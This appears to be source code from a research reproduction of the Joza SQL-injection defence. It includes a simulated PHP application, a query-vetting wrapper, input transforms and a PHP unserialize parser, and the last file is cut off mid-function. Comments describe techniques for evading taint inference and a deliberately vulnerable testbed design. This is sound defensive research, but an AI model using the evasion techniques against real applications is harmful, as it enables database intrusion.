        return registry

    # ------------------------------------------------------------------
    # Topology
    # ------------------------------------------------------------------

    def define_base(self, name: str, fragments: Iterable[str]) -> SharedBase:
        """Register a shared base set (idempotent per name)."""
        interned = self.interner.intern_many(fragments)
        with self._lock:
            if name in self._bases:
                raise ValueError(f"base {name!r} already defined")
            if self.persistence is not None:
                # Durable before published: a failed checkpoint refuses
                # the definition instead of leaving disk behind memory.
                self.persistence.record_base(name, interned)
            base = SharedBase(name, interned)
            self._bases[name] = base
            return base

    def base(self, name: str = DEFAULT_BASE) -> SharedBase:
        with self._lock:
            return self._bases[name]

    def add_tenant(
        self,
        tenant_id: str,
        overlay: Iterable[str] = (),
        *,
        base: str = DEFAULT_BASE,
    ) -> TenantStore:
        """Provision one tenant over a shared base plus its plugin delta."""
        overlay = self.interner.intern_many(overlay)
        with self._lock:
            if tenant_id in self._tenants:
                raise ValueError(f"tenant {tenant_id!r} already registered")
            shared = self._bases[base]
            if self.persistence is not None:
                self.persistence.open_tenant(tenant_id, seed_fragments=overlay)
            store = TenantStore(shared, overlay, tenant_id=tenant_id)
            self._tenants[tenant_id] = store
            return store

    def get(self, tenant_id: str) -> TenantStore:
        with self._lock:
            return self._tenants[tenant_id]

    def __contains__(self, tenant_id: str) -> bool:
        with self._lock:
            return tenant_id in self._tenants

    def __len__(self) -> int:
        with self._lock:
            return len(self._tenants)

    def tenant_ids(self) -> list[str]:
        with self._lock:
            return list(self._tenants)

    # ------------------------------------------------------------------
    # Replication
    # ------------------------------------------------------------------

    def subscribe(
        self, push: Callable[[str, TenantStore, bytes], None]
    ) -> None:
        """Register a replication target for tenant epoch bumps."""
        with self._lock:
            self._subscribers.append(push)

    def snapshot_frame(self, tenant_id: str) -> bytes:
        """The packed snapshot frame of the tenant's current epoch.

        Serialized at most once per epoch; concurrent pushes of the same
        epoch share the cached bytes.
        """
        store = self.get(tenant_id)
        state = store.snapshot()
        with self._lock:
            cached = self._frames.get(tenant_id)
            if cached is not None and cached[0] == state.epoch:
                return cached[1]
        frame = bytes(
            wire.pack_store_snapshot(
                state.fragments, state.epoch, tenant=tenant_id
            )
        )
        with self._lock:
            current = self._frames.get(tenant_id)
            # A racing reload may have cached a newer epoch; never
            # regress the cache (the stale frame is still returned to
            # this caller, whose push target will catch up on the next
            # bump -- generation compare keeps it honest).
            if current is None or current[0] <= state.epoch:
                self._frames[tenant_id] = (state.epoch, frame)
        return frame

    def reload_tenant(
        self, tenant_id: str, overlay: Iterable[str], *, warm: bool = True
    ) -> int:
        """Warm-handoff reload of one tenant's overlay + replication push.

        Returns the new epoch.  The sequence is the section-13 protocol:
        build successor state and composite automaton off-path
        (``warm``), swap atomically, serialize the snapshot once, push
        the frame to every subscriber.  Old-epoch work drains naturally;
        once the pushes complete the old epoch is accounted drained (no
        target will *start* work under it).
        """
        store = self.get(tenant_id)
        overlay = self.interner.intern_many(overlay)
        if self.persistence is not None:
            # Journal the overlay before the swap: if the append fails the
            # reload is refused and subscribers keep the old epoch.
            self.persistence.record_overlay(tenant_id, overlay)
        store.reload_overlay(overlay, warm=warm)
        with self._lock:
            self.handoff_swaps += 1
            subscribers = list(self._subscribers)
        frame = self.snapshot_frame(tenant_id)
        for push in subscribers:
            try:
                push(tenant_id, store, frame)
                with self._lock:
                    self.snapshot_pushes += 1
            except Exception:
                with self._lock:
                    self.push_failures += 1
        with self._lock:
            self.drained_epochs += 1
        return store.epoch

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    def tenancy_report(self) -> dict[str, object]:
        """Fleet-state section for resilience_report()/cache_stats()."""
        with self._lock:
            tenants = dict(self._tenants)
            bases = list(self._bases.values())
            report: dict[str, object] = {
                "tenants": len(tenants),
                "bases": [base.stats() for base in bases],
                "snapshot_pushes": self.snapshot_pushes,
                "push_failures": self.push_failures,
                "handoff_swaps": self.handoff_swaps,
                "drained_epochs": self.drained_epochs,
                "subscribers": len(self._subscribers),
            }
        interned = 0
        private = 0
        detached = 0
        for store in tenants.values():
            stats = store.tenancy_stats()
            interned += stats["interned_fragments"]
            private += stats["private_fragments"]
            detached += 1 if stats["private"] else 0
        report["interned_fragments"] = interned
        report["private_fragments"] = private
        report["detached_tenants"] = detached
        report["interner"] = self.interner.stats()
        if self.persistence is not None:
            report["durability"] = self.persistence.report()
        return report
