"""PHP-subset source scanning: string-fragment extraction for PTI.

Joza's installer "recursively parses all source code files reachable from
the top directory and extracts string literals from each file to form the
final set of string fragments" (Section IV-A).  Our simulated applications
carry their PHP source as text; this module performs the extraction:

- single-quoted literals are taken verbatim (PHP: only ``\\'`` and ``\\\\``
  escapes);
- double-quoted literals are decoded and *split on interpolation
  placeholders* (``$var``, ``{$expr}``), each segment becoming its own
  fragment -- the paper's example splits
  ``"SELECT * from users where id = $id and password=$password"`` into two
  fragments;
- ``sprintf``-style conversion specifiers (``%s``, ``%d``, ``%1$s``...) also
  split a literal, since they are placeholders filled at runtime;
- heredocs (``<<<EOT``) are treated like double-quoted strings;
- only fragments containing at least one valid SQL token are retained.
"""

from __future__ import annotations

import re

from ..sqlparser.lexer import tokenize_significant

__all__ = ["extract_string_literals", "split_placeholders", "extract_fragments", "has_sql_token"]

_PRINTF_SPEC = re.compile(r"%(?:\d+\$)?[+-]?(?:\d+)?(?:\.\d+)?[bcdeEfFgGosuxX]")
_INTERPOLATION = re.compile(
    r"\{\$[^}]*\}"        # {$expr}
    r"|\$\{[^}]*\}"       # ${expr}
    r"|\$[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\]|->[A-Za-z_][A-Za-z0-9_]*)*"  # $var, $a[x], $o->p
)


def _scan_single_quoted(source: str, pos: int) -> tuple[str, int]:
    """Decode a single-quoted PHP literal starting at the opening quote."""
    out: list[str] = []
    i = pos + 1
    n = len(source)
    while i < n:
        ch = source[i]
        if ch == "\\" and i + 1 < n and source[i + 1] in ("'", "\\"):
            out.append(source[i + 1])
            i += 2
        elif ch == "'":
            return "".join(out), i + 1
        else:
            out.append(ch)
            i += 1
    return "".join(out), n


def _scan_double_quoted(source: str, pos: int) -> tuple[str, int]:
    """Decode a double-quoted PHP literal, keeping interpolations as-is."""
    out: list[str] = []
    i = pos + 1
    n = len(source)
    escapes = {"n": "\n", "t": "\t", "r": "\r", '"': '"', "\\": "\\", "$": "$", "0": "\0"}
    while i < n:
        ch = source[i]
        if ch == "\\" and i + 1 < n:
            nxt = source[i + 1]
            if nxt in escapes:
                out.append(escapes[nxt])
                i += 2
                continue
            out.append(ch)
            i += 1
        elif ch == '"':
            return "".join(out), i + 1
        else:
            out.append(ch)
            i += 1
    return "".join(out), n


def _scan_heredoc(source: str, pos: int) -> tuple[str, int] | None:
    """Scan ``<<<TAG ... TAG;`` returning the (interpolatable) body."""
    match = re.match(r"<<<\s*['\"]?([A-Za-z_][A-Za-z0-9_]*)['\"]?\r?\n", source[pos:])
    if match is None:
        return None
    tag = match.group(1)
    body_start = pos + match.end()
    terminator = re.compile(rf"^\s*{re.escape(tag)};?\s*$", re.MULTILINE)
    term = terminator.search(source, body_start)
    if term is None:
        return source[body_start:], len(source)
    return source[body_start : term.start()].rstrip("\n"), term.end()


def extract_string_literals(source: str) -> list[str]:
    """All string literals of a PHP-subset source text, in order.

    Double-quoted and heredoc literals keep their ``$var`` interpolation
    markers; callers split them with :func:`split_placeholders`.  PHP
    comments (``//``, ``#``, ``/* */``) are skipped so commented-out code
    does not contribute fragments.
    """
    literals: list[str] = []
    i = 0
    n = len(source)
    while i < n:
        ch = source[i]
        if ch == "/" and source.startswith("//", i):
            end = source.find("\n", i)
            i = n if end < 0 else end + 1
            continue
        if ch == "#":
            end = source.find("\n", i)
            i = n if end < 0 else end + 1
            continue
        if source.startswith("/*", i):
            end = source.find("*/", i + 2)
            i = n if end < 0 else end + 2
            continue
        if ch == "'":
            literal, i = _scan_single_quoted(source, i)
            literals.append(literal)
            continue
        if ch == '"':
            literal, i = _scan_double_quoted(source, i)
            literals.append(literal)
            continue
        if source.startswith("<<<", i):
            scanned = _scan_heredoc(source, i)
            if scanned is not None:
                literal, i = scanned
                literals.append(literal)
                continue
        i += 1
    return literals


def split_placeholders(literal: str) -> list[str]:
    """Split a literal on interpolation and printf placeholders.

    Returns the non-empty constant segments.  ``"WHERE id = $id LIMIT 5"``
    yields ``["WHERE id = ", " LIMIT 5"]``.
    """
    segments: list[str] = []
    last = 0
    boundaries: list[tuple[int, int]] = []
    for pattern in (_INTERPOLATION, _PRINTF_SPEC):
        boundaries.extend(m.span() for m in pattern.finditer(literal))
    for start, end in sorted(boundaries):
        if start >= last:
            segment = literal[last:start]
            if segment:
                segments.append(segment)
            last = end
    tail = literal[last:]
    if tail:
        segments.append(tail)
    return segments


def has_sql_token(fragment: str) -> bool:
    """Whether a fragment contains at least one valid SQL token.

    The installer retains only such fragments (Section IV-A).  Whitespace-
    only fragments lex to nothing and are dropped.
    """
    return bool(tokenize_significant(fragment))


def extract_fragments(source: str) -> list[str]:
    """Full extraction pipeline for one source text.

    Literal extraction -> placeholder splitting -> SQL-token filter.
    Duplicates are preserved here; the
    :class:`~repro.pti.fragments.FragmentStore` deduplicates.
    """
    fragments: list[str] = []
    for literal in extract_string_literals(source):
        for segment in split_placeholders(literal):
            if has_sql_token(segment):
                fragments.append(segment)
    return fragments
