"""Simulated PHP web application framework.

This is the substrate the testbed runs on: a WordPress-like application
object with a plugin architecture, a request pipeline that applies
PHP/WordPress global input transformations (magic quotes, authenticated-user
trimming), and a database wrapper through which *all* queries flow -- the
interception point where Joza installs itself (paper Section IV-A: "the
installation process wraps all standard PHP functions and classes that
interact with backend databases").

Layering note: this module knows nothing about taint inference.  It exposes
a :class:`QueryGuard` protocol; :class:`repro.core.engine.JozaEngine`
implements it and is attached with :meth:`WebApplication.install_guard`.
"""

from __future__ import annotations

import typing
from dataclasses import dataclass, field

from ..database import Database, DatabaseError, QueryResult
from .context import RequestContext
from .request import HttpRequest, HttpResponse
from .transforms import addslashes, trim

__all__ = [
    "QueryGuard",
    "QueryBlockedError",
    "TerminationSignal",
    "DatabaseWrapper",
    "Plugin",
    "WebApplication",
    "Handler",
]


class QueryBlockedError(Exception):
    """Raised by a guard when a query is judged to be an attack.

    ``terminate`` selects the recovery policy (Section IV-E): ``True`` kills
    the request (blank page), ``False`` behaves like a failed query (error
    virtualization) that application logic may handle gracefully.
    """

    def __init__(self, message: str, *, terminate: bool = True) -> None:
        super().__init__(message)
        self.terminate = terminate


class TerminationSignal(Exception):
    """Internal: unwinds the request under the termination policy."""

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


class QueryGuard(typing.Protocol):
    """Interface Joza implements to vet intercepted queries."""

    def check_query(self, query: str, context: RequestContext) -> None:
        """Raise :class:`QueryBlockedError` if ``query`` is an attack."""


class DatabaseWrapper:
    """The Joza wrapper around database access.

    Every query the application issues goes through :meth:`query`; if a
    guard is installed it sees the query (with the request's raw-input
    snapshot) before the DBMS does.
    """

    def __init__(self, db: Database) -> None:
        self.db = db
        self.guard: QueryGuard | None = None
        self._context: RequestContext | None = None
        self.query_count = 0
        self.elapsed = 0.0
        self.blocked_queries: list[str] = []
        #: Queries refused because the guard itself crashed (last-line
        #: fail-closed defense; see :meth:`_vet`).
        self.guard_failures = 0

    def begin_request(self, context: RequestContext) -> None:
        """Reset per-request accounting; called by the application."""
        self._context = context
        self.query_count = 0
        self.elapsed = 0.0

    def _vet(self, sql: str) -> None:
        """Run the guard over one query; the *only* exit paths are
        "vouched safe" (returns) or a controlled block.

        This is the interception point the paper's never-fail-open promise
        hangs on, so it is also the last line of the failure model: a guard
        that *raises something unexpected* (a bug in an analyzer, a leaked
        IPC error from a non-resilient daemon) must not let the query fall
        through to the DBMS, nor crash the worker with an unhandled
        exception.  Such queries are refused under the termination policy
        with the cause recorded.
        """
        if self.guard is None:
            return
        context = self._context or RequestContext()
        try:
            self.guard.check_query(sql, context)
        except QueryBlockedError as blocked:
            self.blocked_queries.append(sql)
            if blocked.terminate:
                raise TerminationSignal(str(blocked)) from blocked
            raise DatabaseError("query error") from blocked
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception as exc:
            self.blocked_queries.append(sql)
            self.guard_failures += 1
            raise TerminationSignal(
                f"query guard failure (fail-closed): {exc!r}"
            ) from exc

    def execute_prepared(self, sql: str, params=()) -> QueryResult:
        """Prepared-statement path: vet the *template*, bind, execute.

        The template is what the application author wrote, so Joza vets it
        (through the normal guard); bound parameters are pure data -- they
        are escaped into literals and cannot introduce critical tokens --
        so the bound query skips re-vetting.  This is the deployment model
        Section V-B's Drupal discussion assumes, minus Drupal's bug of
        letting input reach the placeholder *names*.
        """
        from ..database.prepared import PreparedStatement

        self.query_count += 1
        self._vet(sql)
        result = PreparedStatement(self.db, sql).execute(params)
        self.elapsed += result.elapsed
        return result

    def query(self, sql: str) -> QueryResult:
        """Intercept, vet and execute one query.

        Raises :class:`TerminationSignal` when a guard blocks under the
        termination policy, :class:`DatabaseError` under error
        virtualization (indistinguishable from a failed query, as the paper
        prescribes), and passes through genuine database errors.
        """
        self.query_count += 1
        self._vet(sql)
        result = self.db.execute(sql)
        self.elapsed += result.elapsed
        return result


#: A route handler: receives the application and the (transformed) request,
#: returns the response body.
Handler = typing.Callable[["WebApplication", HttpRequest], str]


@dataclass
class Plugin:
    """A plugin: routes plus the PHP source its fragments are extracted from."""

    name: str
    version: str = "1.0"
    source: str = ""
    routes: dict[str, Handler] = field(default_factory=dict)


class WebApplication:
    """A simulated PHP web application with a plugin architecture.

    Args:
        name: application name (used in reports).
        db: backing database.
        core_source: PHP source of the application core (fragment corpus).
        magic_quotes: apply :func:`addslashes` to GET/POST/COOKIE values
            before handlers see them (WordPress behaviour the paper's NTI
            evasion leverages).
        trim_authenticated: strip whitespace from authenticated users'
            inputs (the paper's second evasion lever).
    """

    def __init__(
        self,
        name: str,
        db: Database,
        *,
        core_source: str = "",
        core_routes: dict[str, Handler] | None = None,
        magic_quotes: bool = True,
        trim_authenticated: bool = True,
        render_cost: int = 0,
    ) -> None:
        self.name = name
        self.db = db
        self.wrapper = DatabaseWrapper(db)
        self.core_source = core_source
        self.magic_quotes = magic_quotes
        self.trim_authenticated = trim_authenticated
        #: Synthetic per-request templating work (MD5 rounds).  A real PHP
        #: application spends most of a request interpreting templates; the
        #: simulator is orders of magnitude cheaper, which would make any
        #: fixed analysis cost look enormous in percentage terms.  The
        #: performance benchmarks set this to restore a WordPress-like
        #: application-work : analysis-work ratio (see DESIGN.md); the
        #: security evaluation leaves it at 0.
        self.render_cost = render_cost
        self.plugins: dict[str, Plugin] = {}
        self.routes: dict[str, Handler] = dict(core_routes or {})
        self._source_listeners: list[typing.Callable[[], None]] = []

    def _render_burn(self, body: str) -> None:
        if not self.render_cost:
            return
        import hashlib

        # Pad small bodies: even a tiny response (comment POST) renders a
        # full template in real WordPress.
        data = (body.encode("utf-8", "replace") + b" " * 2048)[:4096]
        digest = hashlib.md5()
        for __ in range(self.render_cost):
            digest.update(data)
        self._last_render_digest = digest.hexdigest()

    # ------------------------------------------------------------------
    # Composition
    # ------------------------------------------------------------------

    def register_plugin(self, plugin: Plugin) -> None:
        """Install a plugin: mount its routes, publish its source.

        Mirrors Section IV-B: the preprocessing component re-runs the
        installer "whenever new or modified files are found in the
        application ... to keep the set of string fragments complete".
        Registered source listeners (the Joza engine) are notified.
        """
        if plugin.name in self.plugins:
            raise ValueError(f"plugin {plugin.name!r} already registered")
        for path in plugin.routes:
            if path in self.routes:
                raise ValueError(f"route {path!r} already taken")
        self.plugins[plugin.name] = plugin
        self.routes.update(plugin.routes)
        for listener in self._source_listeners:
            listener()

    def on_source_change(self, listener: typing.Callable[[], None]) -> None:
        """Subscribe to plugin-set changes (used for fragment refresh)."""
        self._source_listeners.append(listener)

    def all_sources(self) -> list[str]:
        """Source text of the core and every plugin (fragment corpus)."""
        return [self.core_source] + [p.source for p in self.plugins.values()]

    def install_guard(self, guard: QueryGuard | None) -> None:
        """Attach (or detach, with ``None``) the query guard."""
        self.wrapper.guard = guard

    # ------------------------------------------------------------------
    # Request pipeline
    # ------------------------------------------------------------------

    def _transform_request(self, request: HttpRequest) -> HttpRequest:
        """Apply the application-global input transformations."""

        def pipeline(value: str) -> str:
            if self.magic_quotes:
                value = addslashes(value)
            if self.trim_authenticated and request.authenticated:
                value = trim(value)
            return value

        return HttpRequest(
            method=request.method,
            path=request.path,
            get={k: pipeline(v) for k, v in request.get.items()},
            post={k: pipeline(v) for k, v in request.post.items()},
            cookies={k: pipeline(v) for k, v in request.cookies.items()},
            headers=dict(request.headers),
            files=dict(request.files),
            authenticated=request.authenticated,
        )

    def handle(self, request: HttpRequest) -> HttpResponse:
        """Process one request end-to-end.

        Pipeline: raw-input snapshot (Joza preprocessing) -> global input
        transforms -> route dispatch -> response assembly.  Database errors
        that escape the handler surface on the page the way sloppy PHP code
        surfaces ``mysql_error()`` -- which is precisely the oracle
        standard-blind exploits need.
        """
        context = RequestContext.capture(request)
        self.wrapper.begin_request(context)
        transformed = self._transform_request(request)
        handler = self.routes.get(request.path)
        if handler is None:
            return HttpResponse(status=404, body="Not Found")
        try:
            body = handler(self, transformed)
        except TerminationSignal:
            return HttpResponse(
                status=500,
                body="",
                blocked=True,
                elapsed=self.wrapper.elapsed,
                query_count=self.wrapper.query_count,
            )
        except DatabaseError as exc:
            return HttpResponse(
                status=200,
                body=f"<b>Database error:</b> {exc}",
                db_error=str(exc),
                elapsed=self.wrapper.elapsed,
                query_count=self.wrapper.query_count,
            )
        self._render_burn(body)
        return HttpResponse(
            status=200,
            body=body,
            elapsed=self.wrapper.elapsed,
            query_count=self.wrapper.query_count,
        )
