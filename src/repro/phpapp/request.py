"""HTTP request/response model for the simulated web applications.

The model mirrors what Joza's preprocessing component can see in PHP: the
superglobals ``$_GET``, ``$_POST``, ``$_COOKIE``, the request headers, and
uploaded file bodies (paper Section IV-B/IV-D: NTI "must first make a copy
of all inputs including cookies contained in HTTP headers, as well as HTTP
GET and POST values").
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = ["HttpRequest", "HttpResponse", "InputSource"]


class InputSource:
    """Names of the input channels NTI enumerates."""

    GET = "get"
    POST = "post"
    COOKIE = "cookie"
    HEADER = "header"
    FILE = "file"

    ALL = (GET, POST, COOKIE, HEADER, FILE)


@dataclass
class HttpRequest:
    """One inbound HTTP request.

    Parameter dicts map name -> string value, exactly as PHP presents them.
    """

    method: str = "GET"
    path: str = "/"
    get: dict[str, str] = field(default_factory=dict)
    post: dict[str, str] = field(default_factory=dict)
    cookies: dict[str, str] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)
    files: dict[str, str] = field(default_factory=dict)
    authenticated: bool = False

    def inputs(self) -> list[tuple[str, str, str]]:
        """All raw inputs as ``(source, name, value)`` triples."""
        triples: list[tuple[str, str, str]] = []
        for source, mapping in (
            (InputSource.GET, self.get),
            (InputSource.POST, self.post),
            (InputSource.COOKIE, self.cookies),
            (InputSource.HEADER, self.headers),
            (InputSource.FILE, self.files),
        ):
            triples.extend((source, name, value) for name, value in mapping.items())
        return triples

    @property
    def is_write(self) -> bool:
        """Whether this request mutates state (POST by convention)."""
        return self.method.upper() == "POST"


@dataclass
class HttpResponse:
    """One outbound response.

    Attributes:
        status: HTTP status code.  Blocked attacks under the termination
            policy return 500 with an empty body ("a blank HTML page",
            Section IV-E).
        body: rendered page text; standard-blind exploits diff this.
        elapsed: virtual seconds spent in database calls during the request;
            double-blind exploits observe this.
        query_count: number of database queries issued while handling the
            request.
        blocked: True when Joza terminated the request.
        db_error: message of a database error surfaced to the page, if any
            (drives error-based / standard-blind probing).
    """

    status: int = 200
    body: str = ""
    elapsed: float = 0.0
    query_count: int = 0
    blocked: bool = False
    db_error: str | None = None

    def ok(self) -> bool:
        return self.status == 200 and not self.blocked
