"""PHP-style input transformations.

These are the application-level transformations that break the input/query
correspondence NTI depends on (paper Section III-A, "Evasion via
Application-level Transformations"):

- :func:`addslashes` -- PHP magic quotes; WordPress re-enforces this on all
  request data, and it is the transformation the paper's NTI evasion
  exploits (each quote in the input gains a backslash in the query).
- :func:`trim` family -- WordPress trims whitespace from authenticated
  users' input; attackers exploit this by appending whitespace padding.
- :func:`base64_decode` -- the input encoding responsible for the single
  NTI miss in Table II.
- plus the common sanitisation/normalisation helpers real plugins call.

Each transform is a plain ``str -> str`` function; applications declare
per-parameter pipelines as lists of these.
"""

from __future__ import annotations

import base64
import html
import re
import urllib.parse

__all__ = [
    "addslashes",
    "stripslashes",
    "trim",
    "ltrim",
    "rtrim",
    "base64_encode",
    "base64_decode",
    "urlencode",
    "urldecode",
    "htmlspecialchars",
    "htmlspecialchars_decode",
    "strtolower",
    "strtoupper",
    "intval",
    "floatval",
    "strip_tags",
    "esc_sql",
    "sanitize_key",
    "sanitize_text_field",
    "wp_unslash",
    "named",
    "TRANSFORMS",
]


def addslashes(value: str) -> str:
    """PHP ``addslashes`` -- the magic-quotes escape.

    Prefixes single quotes, double quotes, backslashes and NULs with a
    backslash.  This *adds characters inside the query* relative to the raw
    input, inflating NTI's edit distance (Figure 2C).
    """
    out: list[str] = []
    for ch in value:
        if ch in ("'", '"', "\\"):
            out.append("\\")
            out.append(ch)
        elif ch == "\0":
            out.append("\\0")
        else:
            out.append(ch)
    return "".join(out)


def stripslashes(value: str) -> str:
    """PHP ``stripslashes`` -- inverse of :func:`addslashes`."""
    out: list[str] = []
    i = 0
    while i < len(value):
        if value[i] == "\\":
            if i + 1 < len(value):
                nxt = value[i + 1]
                out.append("\0" if nxt == "0" else nxt)
                i += 2
            else:
                i += 1  # PHP drops a trailing lone backslash
        else:
            out.append(value[i])
            i += 1
    return "".join(out)


def trim(value: str) -> str:
    """PHP ``trim`` -- strips ASCII whitespace plus NUL from both ends."""
    return value.strip(" \t\n\r\0\x0b")


def ltrim(value: str) -> str:
    return value.lstrip(" \t\n\r\0\x0b")


def rtrim(value: str) -> str:
    return value.rstrip(" \t\n\r\0\x0b")


def base64_encode(value: str) -> str:
    return base64.b64encode(value.encode("utf-8")).decode("ascii")


def base64_decode(value: str) -> str:
    """PHP ``base64_decode`` with its forgiving parsing (ignores junk)."""
    cleaned = re.sub(r"[^A-Za-z0-9+/=]", "", value)
    cleaned += "=" * (-len(cleaned) % 4)
    try:
        return base64.b64decode(cleaned).decode("utf-8", "replace")
    except Exception:
        return ""


def urlencode(value: str) -> str:
    return urllib.parse.quote_plus(value)


def urldecode(value: str) -> str:
    return urllib.parse.unquote_plus(value)


def htmlspecialchars(value: str) -> str:
    return html.escape(value, quote=True)


def htmlspecialchars_decode(value: str) -> str:
    return html.unescape(value)


def strtolower(value: str) -> str:
    return value.lower()


def strtoupper(value: str) -> str:
    return value.upper()


def intval(value: str) -> str:
    """PHP ``intval`` rendered back to string (prefix-parse semantics).

    This is the *sanitising* transform: plugins that cast to int are not
    exploitable, so the vulnerable testbed plugins conspicuously omit it.
    """
    match = re.match(r"\s*[+-]?\d+", value)
    return str(int(match.group())) if match else "0"


def floatval(value: str) -> str:
    match = re.match(r"\s*[+-]?(\d+(\.\d*)?|\.\d+)", value)
    return str(float(match.group())) if match else "0"


def strip_tags(value: str) -> str:
    return re.sub(r"<[^>]*>", "", value)


def esc_sql(value: str) -> str:
    """WordPress ``esc_sql`` -- equivalent to addslashes for our purposes."""
    return addslashes(value)


def sanitize_key(value: str) -> str:
    """WordPress ``sanitize_key`` -- lowercase alphanumerics, dash, underscore."""
    return re.sub(r"[^a-z0-9_\-]", "", value.lower())


def sanitize_text_field(value: str) -> str:
    """WordPress ``sanitize_text_field`` -- strip tags, collapse whitespace."""
    no_tags = strip_tags(value)
    return re.sub(r"[\r\n\t ]+", " ", no_tags).strip()


def wp_unslash(value: str) -> str:
    """WordPress ``wp_unslash`` -- alias of stripslashes."""
    return stripslashes(value)


#: Registry for declarative plugin definitions (name -> callable).
TRANSFORMS = {
    "addslashes": addslashes,
    "stripslashes": stripslashes,
    "trim": trim,
    "ltrim": ltrim,
    "rtrim": rtrim,
    "base64_encode": base64_encode,
    "base64_decode": base64_decode,
    "urlencode": urlencode,
    "urldecode": urldecode,
    "htmlspecialchars": htmlspecialchars,
    "htmlspecialchars_decode": htmlspecialchars_decode,
    "strtolower": strtolower,
    "strtoupper": strtoupper,
    "intval": intval,
    "floatval": floatval,
    "strip_tags": strip_tags,
    "esc_sql": esc_sql,
    "sanitize_key": sanitize_key,
    "sanitize_text_field": sanitize_text_field,
    "wp_unslash": wp_unslash,
}


def named(name: str):
    """Look up a transform by its PHP-style name."""
    try:
        return TRANSFORMS[name]
    except KeyError:
        raise KeyError(f"unknown transform {name!r}") from None
