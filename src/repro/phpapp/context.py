"""Per-request input capture (the Joza preprocessing component's snapshot).

Paper Section IV-B: *"The preprocessing component defines Joza wrappers and
stores a copy of all inputs to the web application to preserve them for NTI
analysis.  This step is required as many web applications modify user-input
before it reaches NTI analysis."*

:class:`RequestContext` is that copy: the raw, untransformed inputs as they
arrived on the wire, enumerated per source.  NTI analyses these values, not
whatever the application later derived from them.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .request import HttpRequest

__all__ = ["RequestContext", "CapturedInput"]


@dataclass(frozen=True)
class CapturedInput:
    """One raw input value: where it came from and what it was named."""

    source: str  # InputSource constant
    name: str
    value: str


@dataclass
class RequestContext:
    """Immutable snapshot of all inputs of one request."""

    inputs: list[CapturedInput] = field(default_factory=list)
    is_write: bool = False
    path: str = "/"

    @classmethod
    def capture(cls, request: HttpRequest) -> "RequestContext":
        """Snapshot ``request`` before any application transform runs."""
        return cls(
            inputs=[CapturedInput(s, n, v) for s, n, v in request.inputs()],
            is_write=request.is_write,
            path=request.path,
        )

    def values(self) -> list[str]:
        """All raw input values (the strings NTI matches against queries)."""
        return [captured.value for captured in self.inputs]

    def non_empty_values(self) -> list[str]:
        return [captured.value for captured in self.inputs if captured.value]
