"""A PHP ``serialize``/``unserialize`` subset.

Needed for the Joomla scenario (paper Section V-B): CVE-2013-1453 abused an
``unserialize`` of encoded cookie input to instantiate an object whose
member variables -- attacker-controlled -- are later interpolated into a SQL
query.  The subset covers what that exploit needs: strings, integers,
floats, booleans, null, arrays (maps) and objects (class name + property
map).

Format reference (PHP):

- ``s:<len>:"<bytes>";``    string (len counts bytes, not characters)
- ``i:<int>;`` / ``d:<float>;`` / ``b:<0|1>;`` / ``N;``
- ``a:<n>:{<key><value>...}``           array
- ``O:<len>:"<class>":<n>:{<k><v>...}`` object
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = ["PhpObject", "php_serialize", "php_unserialize", "PhpSerializeError"]


class PhpSerializeError(ValueError):
    """Malformed serialized data."""


@dataclass
class PhpObject:
    """An unserialized PHP object: class name plus property map."""

    class_name: str
    properties: dict = field(default_factory=dict)

    def get(self, name: str, default=None):
        return self.properties.get(name, default)


def php_serialize(value) -> str:
    """Serialize a Python value using PHP's wire format."""
    if value is None:
        return "N;"
    if isinstance(value, bool):
        return f"b:{1 if value else 0};"
    if isinstance(value, int):
        return f"i:{value};"
    if isinstance(value, float):
        return f"d:{value};"
    if isinstance(value, str):
        raw = value.encode("utf-8")
        return f's:{len(raw)}:"{value}";'
    if isinstance(value, PhpObject):
        body = "".join(
            php_serialize(k) + php_serialize(v)
            for k, v in value.properties.items()
        )
        return (
            f'O:{len(value.class_name)}:"{value.class_name}":'
            f"{len(value.properties)}:{{{body}}}"
        )
    if isinstance(value, dict):
        body = "".join(php_serialize(k) + php_serialize(v) for k, v in value.items())
        return f"a:{len(value)}:{{{body}}}"
    if isinstance(value, (list, tuple)):
        body = "".join(
            php_serialize(i) + php_serialize(v) for i, v in enumerate(value)
        )
        return f"a:{len(value)}:{{{body}}}"
    raise PhpSerializeError(f"cannot serialize {type(value).__name__}")


class _Reader:
    def __init__(self, data: str) -> None:
        self.data = data
        self.pos = 0

    def expect(self, text: str) -> None:
        if not self.data.startswith(text, self.pos):
            raise PhpSerializeError(
                f"expected {text!r} at offset {self.pos} in serialized data"
            )
        self.pos += len(text)

    def read_until(self, stop: str) -> str:
        end = self.data.find(stop, self.pos)
        if end < 0:
            raise PhpSerializeError(f"missing {stop!r} after offset {self.pos}")
        chunk = self.data[self.pos : end]
        self.pos = end + len(stop)
        return chunk

    def read_exact(self, count: int) -> str:
        # PHP lengths are byte counts; operate on a UTF-8 view.
        raw = self.data[self.pos :].encode("utf-8")[:count]
        text = raw.decode("utf-8", "replace")
        self.pos += len(text)
        return text


def _parse(reader: _Reader):
    try:
        return _parse_inner(reader)
    except (ValueError, IndexError) as exc:
        if isinstance(exc, PhpSerializeError):
            raise
        raise PhpSerializeError(f"malformed serialized data: {exc}") from exc


def _parse_inner(reader: _Reader):
    tag = reader.data[reader.pos : reader.pos + 1]
    if tag == "N":
        reader.expect("N;")
        return None
    if tag == "b":
        reader.expect("b:")
        value = reader.read_until(";")
        return value == "1"
    if tag == "i":
        reader.expect("i:")
        return int(reader.read_until(";"))
    if tag == "d":
        reader.expect("d:")
        return float(reader.read_until(";"))
    if tag == "s":
        reader.expect("s:")
        length = int(reader.read_until(":"))
        reader.expect('"')
        text = reader.read_exact(length)
        reader.expect('";')
        return text
    if tag == "a":
        reader.expect("a:")
        count = int(reader.read_until(":"))
        reader.expect("{")
        out: dict = {}
        for __ in range(count):
            key = _parse(reader)
            out[key] = _parse(reader)
        reader.expect("}")
        return out
    if tag == "O":
        reader.expect("O:")
        name_len = int(reader.read_until(":"))
        reader.expect('"')
        class_name = reader.read_exact(name_len)
        reader.expect('":')
        count = int(reader.read_until(":"))
        reader.expect("{")
        properties: dict = {}
        for __ in range(count):
            key = _parse(reader)
            properties[key] = _parse(reader)
        reader.expect("}")
